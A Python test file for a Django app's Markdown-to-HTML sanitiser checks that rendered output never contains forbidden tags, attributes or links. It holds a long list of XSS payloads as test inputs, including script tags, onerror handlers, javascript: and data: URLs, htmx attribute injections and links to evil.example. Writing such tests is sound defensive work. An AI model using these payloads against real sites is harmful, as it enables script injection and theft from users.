import re
from html import escape
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from impact.kit.text import clean, linked_only_to, to_html, to_plain

relaxed = settings(deadline=None, max_examples=200)

ADDRESS = re.compile(r"https?://[^/\\]|mailto:", re.IGNORECASE)
ALLOWED = {
    **dict.fromkeys(["p", "br", "ul", "li", "strong", "em", "h4", "h5"], frozenset()),
    "ol": {"start"},
    "a": {"href", "rel"},
}


class Born(HTMLParser):
    """What a browser would make of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.data = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.data += data

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def links(self) -> list[str | None]:
        return [attributes["href"] for tag, attributes in self.elements if tag == "a"]


def forbidden(html: str) -> list[str]:
    """Elements, attributes and addresses that must never be born from data."""
    born = Born(html)
    found = born.others + [tag for tag, _ in born.elements if tag not in ALLOWED]
    for tag, attributes in born.elements:
        found += [f"{tag} {name}" for name in attributes if name not in ALLOWED.get(tag, set())]
        if tag == "a":
            found += [] if ADDRESS.match(attributes.get("href") or "") else ["href"]
            found += [] if attributes.get("rel") == "noopener noreferrer nofollow" else ["rel"]
    return found


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<button hx-post=/decisions/1/supprimer hx-trigger=load>x</button>",
    "<div data-hx-get=/admin/ data-hx-trigger=load></div>",
    "<p hx-on::load=alert(1)>x</p>",
    "<p hx-swap-oob=true id=main class=fr-alert style='position:fixed'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- <script>alert(1)</script> --><![CDATA[x]]><?php echo 1 ?>",
    "<p class=MsoNormal style='mso-margin-top-alt:auto'><o:p>&nbsp;</o:p></p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](http:///evil.example)",
    "[x](/deconnexion/)",
    "[x](?a=1)",
    "[x](#main)",
    "[x]()",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    '[a](https://exemple.fr/"onmouseover="alert(1))',
    "[a](https://exemple.fr \"x' onclick='alert(1)\")",
    "[a](https://exemple.fr/<script>alert(1)</script>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "[<script>alert(1)</script>](https://exemple.fr)",
    "**<img src=x onerror=alert(1)>**",
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "{{ request.user }}{% debug %}",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "shape", ["{}", "Un mot {} et un autre.", "- {}", "**{}**", "# {}", "[{}](https://exemple.fr)"]
)
def test_to_html_bears_nothing_forbidden(payload, shape):
    html = to_html(shape.format(payload))
    assert isinstance(html, SafeString)
    assert forbidden(html) == []


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if re.match(r"<[^\n]+$", payload)])
def test_to_html_shows_tags_as_they_were_typed(payload):
    assert Born(to_html("x " + payload)).data.strip() == "x " + payload


def test_forbidden_sees_what_must_not_be_born():
    assert forbidden("<p onclick=x>a</p><img src=x><a href='//evil'>b</a><!-- c -->") == [
        " c ",
        "img",
        "p onclick",
        "img src",
        "href",
        "rel",
    ]


@relaxed
@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", " ", "- ", "# ", "*", "**", "[", "](", ")", "<", ">", '"'])))
def test_to_html_bears_nothing_forbidden_from_mixtures(parts):
    assert forbidden(to_html("".join(parts))) == []


@relaxed
@given(st.text(alphabet="abé019 \n\t-+*_#[]()<>!&;:/\\\"'`~|.", max_size=120) | st.text(max_size=60))
def test_to_html_and_to_plain_keep_every_word(text):
    html = Born(to_html(text))
    shown = html.data + " ".join(link or "" for link in html.links)
    for word in re.findall(r"[^\W\d_]+", text.replace("\x00", "")):
        assert word in shown or not word.isascii()
        assert word in to_plain(text) or not word.isascii()


def test_to_html_of_the_whole_subset():
    text = "Un *mot* **fort**\nà la ligne\n\n- a\n- b\n\n4. c\n5. d\n\n[x](https://x.fr/?a=1&b=2) <a@b.fr>"
    rel = 'rel="noopener noreferrer nofollow"'
    assert to_html(text).replace("\n", "") == (
        "<p>Un <em>mot</em> <strong>fort</strong><br>à la ligne</p>"
        "<ul><li>a</li><li>b</li></ul>"
        '<ol start="4"><li>c</li><li>d</li></ol>'
        f'<p><a href="https://x.fr/?a=1&amp;b=2" {rel}>x</a> <a href="mailto:a@b.fr" {rel}>a@b.fr</a></p>'
    )


@pytest.mark.parametrize(
    ("text", "under", "headings"),
    [
        ("# a\n## b\n### c\n# d", 3, ["h4", "h5", "h5", "h4"]),
        ("### a\n# b\n#### c", 3, ["h4", "h4", "h5"]),
        ("## a\n### b", 1, ["h2", "h3"]),
        ("# a\n## b", 5, ["h6", "h6"]),
    ],
)
def test_to_html_headings_follow_the_one_of_the_page(text, under, headings):
    assert [tag for tag, _ in Born(to_html(text, under=under)).elements] == headings


def test_to_html_leaves_other_marks_as_they_were_typed():
    text = "`code` ~~barré~~\n> cité\n---\n| a | b |\n===\n&eacute; &amp;"
    assert to_html(text) == f"<p>{escape(text, quote=False)}</p>\n".replace("\n", "<br>\n", 5)


@pytest.mark.parametrize("text", ["- " * 300 + "fin", "\n".join("  " * depth + "- mot" for depth in range(60))])
def test_to_html_of_endless_nesting_is_whole(text):
    words = len(re.findall("fin|mot", text))
    assert len(re.findall("fin|mot", to_html(text))) == len(re.findall("fin|mot", to_plain(text))) == words


def test_to_plain_reads_as_a_mail():
    text = (
        "# Point 1\n\nUn *mot* **fort**\nà la ligne :\n- a\n- b\n  suite\n  1. c\n\n"
        "Voir [le site](https://exemple.fr), <a@b.fr>."
    )
    assert to_plain(text) == (
        "Point 1\n\nUn mot fort\nà la ligne :\n- a\n- b\n  suite\n  1. c\n\nVoir le site (https://exemple.fr), a@b.fr."
    )


@pytest.mark.parametrize(
    ("pasted", "stored"),
    [
        ("a\r\nb\rc\u2028d\x0be", "a\nb\nc\nd\ne"),
        ("a\x00b\x07c\x1bd\x7fe\x9ff\tg", "abcdef\tg"),
        ("e\u0301te\u0301 a\u0300", "été à"),
        ("facture\u202egpj.exe \u2066x\u2069", "facturegpj.exe x"),
        ("\ufeffcollec\u00adtif\u200b \ud800", "collectif"),
        ("  a  \nb\t\n\n\u00a0\n", "  a\nb"),
        ("\n\na", "a"),
        ("14\u00a0h\u202f! 👩\u200d🌾", "14\u00a0h\u202f! 👩\u200d🌾"),
        ("<p class=MsoNormal>Été</p><!--[if gte mso 9]>", "<p class=MsoNormal>Été</p><!--[if gte mso 9]>"),
        ("", ""),
    ],
)
def test_clean_normalises_what_is_pasted(pasted, stored):
    assert clean(pasted) == stored


@relaxed
@given(st.text(alphabet=st.characters(exclude_categories=[])))
def test_clean_twice_changes_nothing_more(text):
    once = clean(text)
    assert clean(once) == once
    assert once.encode().decode() == once
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", once)


def test_clean_keeps_the_words_of_300_kb_of_word_html():
    paragraph = "<p class=MsoNormal style='margin:0'><span lang=FR>Le conseil<o:p></o:p></span></p>\r\n"
    pasted = paragraph * (300_000 // len(paragraph))
    stored = clean(pasted)
    assert stored == pasted.replace("\r\n", "\n").strip()
    assert forbidden(to_html(stored)) == []
    assert Born(to_html(stored)).data.split() == stored.split()


def test_in_a_letter_only_our_own_addresses_stay_links():
    site, typed = "https://impact.exemple", "Zoé https://vol.exemple/x et www.vol.exemple, ftp://a.b"
    letter = f"Bonjour {typed}.\n\nOuvrez ce lien :\n{site}/r/1-ab/\n\n{site}\n{site}.vol.exemple/"
    assert linked_only_to(site, letter) == (
        "Bonjour Zoé https vol. exemple/x et www. vol. exemple, ftp a. b.\n\n"
        f"Ouvrez ce lien :\n{site}/r/1-ab/\n\n{site}\nhttps impact. exemple. vol. exemple/"
    )
    assert linked_only_to(site, typed) != typed
